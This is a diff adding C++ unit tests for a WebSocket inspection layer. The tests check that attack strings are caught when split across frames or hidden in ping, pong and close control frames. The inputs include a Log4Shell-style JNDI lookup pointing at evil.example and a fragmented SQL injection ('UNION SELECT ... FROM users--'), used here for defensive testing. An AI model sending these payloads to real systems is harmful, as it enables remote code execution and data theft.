@@ -96,6 +96,32 @@ TEST(SocketInspection, KeepsInWhatShouldNotLeave) {
   EXPECT_EQ(info->matches[0].excerpt, "github-token ending in 2ePq");
 }
 
+TEST(SocketInspection, LooksIntoWhatControlFramesSayInTheMidstOfAMessageToo) {
+  const std::string attack = "${jndi:ldap://evil.example/a}";
+  for (const std::string& frame :
+       {Frame(0x89, attack), Frame(0x8a, attack), Frame(0x88, absl::StrCat("\x03\xe8", attack))}) {
+    const std::string frames = absl::StrCat(Frame(0x01, R"({"id": )"), frame);
+    for (const size_t piece : {size_t{1}, SIZE_MAX}) {
+      Socket socket(RequestsOnly(InspectionMode::kBlock));
+      ASSERT_EQ(socket.Send(Towards::kUpstream, frames, piece), Step::kClose);
+      EXPECT_EQ(socket.Record().inspection->matches.at(0).field, "websocket");
+    }
+    ListenerPlan plan;
+    plan.orders.data_loss = InspectionMode::kBlock;
+    Socket leaving(plan);
+    EXPECT_EQ(leaving.Send(Towards::kDownstream, Frame(0x8a, kToken, false)), Step::kClose);
+  }
+}
+
+TEST(SocketInspection, OrdinaryPingsDisturbNoMessage) {
+  Socket socket(RequestsOnly(InspectionMode::kBlock));
+  const std::string frames =
+      absl::StrCat(Frame(0x01, R"({"id": "1' UNION )"), Frame(0x89, "1700000000"), Frame(0x89, ""),
+                   Frame(0x80, R"(SELECT name FROM users-- "})"));
+  EXPECT_EQ(socket.Send(Towards::kUpstream, frames, 1), Step::kClose);
+  EXPECT_EQ(socket.Record().inspection->matches.at(0).field, "json:$.id");
+}
+
 TEST(SocketInspection, WhatIsOffHidesNothingThatIsOn) {
   Socket socket(TokensAreOff());
   const std::string tokens = ManyTokens();
